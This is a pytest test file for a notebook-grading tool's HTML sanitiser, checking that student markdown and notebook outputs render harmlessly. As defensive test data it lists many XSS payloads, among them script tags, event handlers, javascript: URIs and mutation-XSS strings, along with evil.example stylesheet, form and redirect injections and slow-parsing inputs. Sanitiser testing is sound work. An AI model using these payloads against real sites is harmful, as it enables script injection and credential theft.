"""What a student wrote can do nothing in a browser, is still readable, and takes no more than seconds."""

from __future__ import annotations

import base64
import io
import re

import pytest
from nbjudge.ground.pictures import MAX_PICTURE
from nbjudge.ground.terminal import MAX_TEXT
from nbjudge.pages import safe
from PIL import Image

from ..harmless import dangers, read

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a> [x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:x) ![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+) ![x](data:image/png;base64,bm8gcG5n)",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css><base href=//evil.example>",
    "<form action=//evil.example><input name=password></form><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<div id=top class='card right' style='position:fixed'>100 of 100 points</div>",
    "```html\n<script>alert(1)</script>\n```\n`<script>`",
    "$$</code><script>alert(1)</script>$$ and $\\href{javascript:alert(1)}{x}$",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>",
    "a | b\n--|--\n<img src=x onerror=alert(1)> | [x](javascript:1)",
    "# <b onmouseover=alert(1)>x</b>",
    "<textarea></p><img src=x onerror=alert(1)>",
]
OURS = re.compile(r'( class="wide")? tabindex="0" role="group" aria-label="(Code|Table)"')
SLOW = {
    "brackets": "[" * safe.MAX_MARKDOWN,
    "images": "![" * (safe.MAX_MARKDOWN // 2),
    "emphasis": "*a **b " * (safe.MAX_MARKDOWN // 7),
    "definitions": "[a]: b\n" * (safe.MAX_MARKDOWN // 7),
    "a wide table": "|a" * 500 + "|\n" + "|-" * 500 + "|\n" + "a\n" * 9_000,
    "quotes": "> " * (safe.MAX_MARKDOWN // 2),
    "lists": "\n".join(" " * n + "- a" for n in range(190)),
    "too long": "*a " * 10**6,
}


def png(side: int = 2) -> str:
    file = io.BytesIO()
    Image.new("RGB", (side, side)).save(file, "PNG")
    return base64.b64encode(file.getvalue()).decode()


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_does_nothing(text: str) -> None:
    """Nor may it name a class, an anchor or a style of the page's own."""
    html = safe.markdown(text)
    assert dangers(html) == []
    assert read(OURS.sub("", html)).attributes <= {"href", "title", "src", "alt", "start", "rel"}


@pytest.mark.parametrize("name", SLOW)
@pytest.mark.timeout(60)
def test_markdown_ends(name: str) -> None:
    assert dangers(safe.markdown(SLOW[name])) == []


def test_markdown_still_says_what_was_written() -> None:
    html = safe.markdown(
        "**Bold**, `code`, [a link](https://example.org), $\\tau = 0.1$\n\n- one\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    for part in (
        "<strong>Bold</strong>",
        "<code>code</code>",
        'href="https://example.org"',
        "\\tau = 0.1",
        "<li>one</li>",
        "<td>2</td>",
    ):
        assert part in html
    assert 'rel="noopener noreferrer"' in html


def test_attachments_are_shown_if_they_are_images() -> None:
    told = {"a.png": {"image/png": png()}, "b.png": {"image/png": "bm8gcG5n"}, "c.svg": {"image/svg+xml": "<svg/>"}, "d": 7}
    html = safe.markdown("![A](attachment:a.png) ![B](attachment:b.png) ![C](attachment:c.svg) ![D](attachment:d)", told)
    assert html.count("data:image/png") == 1
    assert "B <em>(what should be a PNG picture is none, and is not shown)</em>" in html
    assert "C <em>(a picture in the format SVG is not shown: only PNG and JPEG are)</em>" in html
    assert "D <em>(a picture that was not in the file)</em>" in html


def test_a_missing_attachment_does_not_stop_the_page() -> None:
    """Nbconvert raises InvalidNotebook, and nbgrader gave that student no feedback."""
    assert "my plot <em>(a picture that was not in the file)</em>" in safe.markdown("![my plot](attachment:lost.png)", None)


def link(address: str, words: str) -> str:
    return f'<a href="{address}" rel="noopener noreferrer">{words}</a>'


WORDS = "(a picture from elsewhere: {}, not loaded)"
WEB = "https://a.example/b_c.png"


@pytest.mark.parametrize(
    ("text", "html"),
    [
        (f"![x]({WEB})", f"x {link(WEB, WORDS)}"),
        ("![](//a.example/b_c.png)", link(WEB, WORDS).replace("{}", "//a.example/b_c.png")),
        (f"[![b]({WEB})](https://a.example)", link("https://a.example", f"b {WORDS}")),
        ("![](plot.png)", "<em>(a picture in a file of its own, plot.png, is not here)</em>"),
        ("![](javascript:alert(1))", "<em>(a picture that was not in the file)</em>"),
    ],
)
def test_a_picture_from_elsewhere_is_a_link(text: str, html: str) -> None:
    made = safe.markdown(text)
    assert made.strip() == f"<p>{html.replace('{}', WEB)}</p>"
    assert dangers(made) == []


@pytest.mark.parametrize("text", ["[](https://a.example)", "[](javascript:alert(1))", "a\n\n[ ](https://a.example)\n\nb"])
def test_nothing_empty_is_left(text: str) -> None:
    made = safe.markdown(text)
    assert "<a" not in made and "<p></p>" not in made


def test_a_picture_of_the_largest_size_is_shown_and_a_larger_one_is_said() -> None:
    fits, larger = (base64.b64encode(b"\x89PNG\r\n\x1a\n".ljust(MAX_PICTURE + more, b".")).decode() for more in (0, 1))
    assert "<img" in safe.markdown("![a](attachment:a.png)", {"a.png": {"image/png": fits}})
    assert "<img" in safe.safe_output({"output_type": "display_data", "data": {"image/png": fits}})
    for html in (
        safe.markdown("![a](attachment:a.png)", {"a.png": {"image/png": larger}}),
        safe.safe_output({"output_type": "display_data", "data": {"image/png": larger, "text/plain": "<Figure>"}}),
    ):
        assert "<img" not in html and "(a picture of 2.0 MB is not shown: the most is 2 MB)" in html


@pytest.mark.parametrize(
    ("told", "part"),
    [
        ({"output_type": "stream", "text": ["\x1b[31mred\x1b[0m", " <b>x</b>"]}, "red &lt;b&gt;x&lt;/b&gt;"),
        ({"output_type": "stream", "text": "\x1b]0;title\x07x\x07y\u202ez"}, "x\ufffdy\ufffdz"),
        ({"output_type": "error", "ename": "E", "evalue": "<script>", "traceback": []}, "E: &lt;script&gt;"),
        ({"output_type": "display_data", "data": {"text/html": "<script>1</script>", "text/plain": "a table"}}, "a table"),
        ({"output_type": "display_data", "data": {"image/svg+xml": "<svg onload=alert(1)>", "text/plain": "a plot"}}, "a plot"),
        ({"output_type": "display_data", "data": {"application/javascript": "alert(1)", "text/plain": "js"}}, "js"),
        ({"output_type": "display_data", "data": {"image/png": "PHN2Zz4=", "text/plain": "no image"}}, "no image"),
        ({"output_type": "display_data", "data": {"image/png": png()}}, "data:image/png;base64,"),
        ({"output_type": "execute_result", "data": {"text/markdown": "[x](javascript:1)", "text/plain": "7"}}, "7"),
        ({"output_type": "stream", "text": "\ud800 half"}, "\ufffd half"),
    ],
)
def test_outputs_are_text_or_images(told: dict, part: str) -> None:
    html = safe.safe_output(told)
    assert part in html
    assert dangers(html) == []
    html.encode("utf-8")


def test_an_endless_output_is_cut() -> None:
    html = safe.safe_output({"output_type": "stream", "text": "line\n" * 50_000})
    assert len(html) < 20_000 and "more lines" in html
    assert len(safe.safe_output({"output_type": "stream", "text": "x" * 10**7})) <= MAX_TEXT + 50


def test_code_is_shown_and_not_run() -> None:
    html = safe.code("x = '<script>alert(1)</script>'  # \u202e \ud83d")
    assert dangers(html) == [] and "&lt;script&gt;" in html
    html.encode("utf-8")
    assert safe.code("'" + "a" * (safe.MAX_CODE + 1)).startswith(f"{safe.plain(50 * 'x').split('>')[0]}>&#x27;aaa")


@pytest.mark.parametrize(("words", "html"), [("use `to(device)`", "use <code>to(device)</code>"), ("a ` <b>", "a ` &lt;b&gt;")])
def test_backticks_are_code(words: str, html: str) -> None:
    assert safe.with_code(words) == html


def test_formulas_of_the_lesson_are_drawn_by_the_browser() -> None:
    html = safe.lesson("$\\frac{1}{2}$ and\n\n$$x^2$$\n\n[![badge](https://example.org/badge.svg)](https://example.org)")
    assert html.count("<math") == 2 and "mfrac" in html and "badge.svg" not in html
    assert '<a href="https://example.org">badge</a>' in html
    assert safe.lesson("Text\n\n[![](https://example.org/badge.svg)](https://example.org)").strip() == "<p>Text</p>"


def test_code_of_nothing_but_blanks_is_soon_coloured() -> None:
    """Minutes, if time went by the square of its length."""
    made = safe.code("x = 1" + " \t" * 49_000)
    assert "x" in made and len(made) < 1_000
